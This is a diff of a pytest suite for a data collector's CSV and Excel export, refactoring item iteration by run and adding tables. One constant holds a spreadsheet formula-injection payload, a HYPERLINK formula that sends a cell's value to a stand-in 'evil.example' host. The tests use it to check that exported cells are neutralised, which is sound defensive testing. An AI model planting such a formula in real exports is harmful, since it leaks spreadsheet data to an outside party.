@@ -14,11 +14,25 @@ import openpyxl
 import pytest
 
 from collector.canonical import moment
-from collector.export import tables
-from collector.export.dossier import Dossier
+from collector.export import tables, workbook
+from collector.export.columns import Table
+from collector.export.dossier import Dossier, Item, RunItems
+from collector.export.words import utc
 from collector.ledger.entry import population_digest
 
-NAMES = ["results", "items", "exceptions", "coverage", "changes", "alerts", "populations"]
+NAMES = [
+    "results",
+    "items",
+    "states",
+    "exceptions",
+    "coverage",
+    "reconciliation",
+    "changes",
+    "alerts",
+    "decisions",
+    "populations",
+    "anchors",
+]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
@@ -32,6 +46,14 @@ def folder(dossier: Dossier, tmp_path_factory: pytest.TempPathFactory) -> Path:
 def read(folder: Path, name: str) -> list[dict[str, str]]:
     with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as file:
         return list(csv.DictReader(file, strict=True))
+
+
+def table_named(name: str) -> Table:
+    return next(table for table in tables.TABLES if table.name == name)
+
+
+def flat(dossier: Dossier) -> list[tuple[RunItems, Item]]:
+    return [(run, item) for run in dossier.items() for item in run.items]
 
 
 def sheets(folder: Path) -> dict[str, list[tuple[Any, ...]]]:
@@ -74,9 +96,11 @@ def test_local_times_carry_the_offset_of_their_season(folder: Path) -> None:
 
 def test_every_item_is_a_row_with_its_facts(dossier: Dossier, folder: Path) -> None:
     rows = read(folder, "items")
-    items = list(dossier.items())
-    assert len(rows) == len(items)
-    for row, item in zip(rows, items, strict=True):
+    items = flat(dossier)
+    assert len(rows) == len(items) == dossier.item_rows
+    for row, (run, item) in zip(rows, items, strict=True):
+        assert (row["run"], row["check"], row["scope"]) == (str(run.run), run.check, run.scope)
+        assert row["slot_utc"] == ("" if run.slot is None else utc(run.slot))
         assert row["subject"].removeprefix("'") == item.subject
         assert (json.loads(row["facts"]) if row["facts"] else None) == item.facts
         assert row["evidence"].split() == list(item.evidence)
@@ -123,8 +147,8 @@ def test_populations_say_how_many_and_whether_they_are_the_same(dossier: Dossier
     runs = {slot.run.seq for slot in dossier.slots if slot.run} | {run.seq for run in dossier.runs_outside_slots}
     assert set(rows) == runs
     subjects: dict[int, list[str]] = {seq: [] for seq in runs}
-    for item in dossier.items():
-        subjects[item.run].append(item.subject)
+    for run, item in flat(dossier):
+        subjects[run.run].append(item.subject)
     for seq, row in rows.items():
         if row["listing"] == "none":
             assert (row["count"], row["digest"], row["satisfied"]) == ("", "", "")
@@ -147,7 +171,8 @@ def test_alerts_and_changes_are_complete(dossier: Dossier, folder: Path) -> None
 
 def test_an_alert_that_no_channel_took_says_so(weekend: Dossier, tmp_path: Path) -> None:
     lost = replace(weekend.alerts[0], deliveries=(("pager", "gave-up", weekend.until),))
-    tables.write(replace(weekend, alerts=(lost,)), tmp_path)
+    lives = tuple(replace(life, alerts=(lost,)) for life in weekend.lives)
+    tables.write(replace(weekend, alerts=(lost,), lives=lives), tmp_path)
     assert read(tmp_path, "alerts")[0]["delivered"] == "no"
     assert {row["alerts_delivered"] for row in read(tmp_path, "exceptions")} == {""}
 
@@ -166,7 +191,7 @@ def test_other_texts_stay_as_they_are(text: str) -> None:
 
 
 def test_no_cell_of_any_file_is_a_formula(dossier: Dossier, folder: Path) -> None:
-    assert any(item.subject == FORMULA for item in dossier.items()), "the window holds one"
+    assert any(item.subject == FORMULA for _, item in flat(dossier)), "the window holds one"
     for name in NAMES:
         for row in read(folder, name):
             assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
@@ -196,7 +221,7 @@ def test_the_workbook_has_the_same_rows_as_the_files(dossier: Dossier, folder: P
     for name in NAMES:
         header, *rows = book[name]
         written = read(folder, name)
-        assert list(header) == list(written[0])
+        assert list(header) == list(table_named(name).header)
         assert len(rows) == len(written)
         for cells, row in zip(rows, written, strict=True):
             for title, cell in zip(header, cells, strict=True):
@@ -209,7 +234,7 @@ def test_the_workbook_has_the_same_rows_as_the_files(dossier: Dossier, folder: P
     about = dict(book["about"])
     assert about["origin"] == dossier.origin
     assert about["assurance"] == dossier.assurance
-    assert about["items"].startswith(f"{len(list(dossier.items())):,} rows")
+    assert about["items"].startswith(f"{dossier.item_rows:,} rows")
 
 
 def test_sheets_are_frozen_filtered_and_without_links(weekend: Dossier, tmp_path: Path) -> None:
@@ -231,7 +256,7 @@ def test_the_same_window_gives_the_same_bytes(folder: Path, rebuilt: Callable[[]
 
 
 def test_a_table_goes_on_in_a_second_sheet(dossier: Dossier, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(tables, "ROWS_MAX", 1001)
+    monkeypatch.setattr(workbook, "ROWS_MAX", 1001)
     tables.write(dossier, tmp_path)
     book = sheets(tmp_path)
     parts = [book[name] for name in book if name.startswith("results")]
@@ -255,17 +280,17 @@ def test_a_cell_that_excel_cannot_hold_is_cut_with_a_note(weekend: Dossier, tmp_
 
 
 def test_items_that_do_not_add_up_to_the_run_are_refused(weekend: Dossier, tmp_path: Path) -> None:
-    items = list(weekend.items())
-    large = next(item.run for item in items if sum(1 for other in items[:50] if other.run == item.run) > 1)
-    lost = next(item for item in items if item.run == large)
-    with pytest.raises(ValueError, match=f"run {large} lists"):
-        tables.write(replace(weekend, items=lambda: (item for item in items if item is not lost)), tmp_path)
+    runs = list(weekend.items())
+    large = next(run for run in runs if len(run.items) > 1)
+    short = replace(large, observations="another", items=large.items[1:])
+    with pytest.raises(ValueError, match=f"run {large.run} lists"):
+        tables.write(replace(weekend, items=lambda: (short if run is large else run for run in runs)), tmp_path)
 
 
-def test_items_of_one_run_in_two_places_are_refused(weekend: Dossier, tmp_path: Path) -> None:
-    items = list(weekend.items())
-    with pytest.raises(ValueError, match="come in two parts"):
-        tables.write(replace(weekend, items=lambda: iter([*items, items[0]])), tmp_path)
+def test_items_of_one_run_that_come_twice_are_refused(weekend: Dossier, tmp_path: Path) -> None:
+    runs = list(weekend.items())
+    with pytest.raises(ValueError, match="come twice"):
+        tables.write(replace(weekend, items=lambda: iter([*runs, runs[0]])), tmp_path)
 
 
 def test_runs_whose_payload_has_expired_keep_their_counts(weekend: Dossier, tmp_path: Path) -> None:
@@ -281,6 +306,9 @@ def test_an_empty_window_has_headers_and_no_rows(dossier: Dossier, tmp_path: Pat
         runs_outside_slots=(),
         coverage=(),
         deviations=(),
+        lives=(),
+        stretches=(),
+        blind=(),
         alerts=(),
         changes=(),
         items=lambda: iter(()),
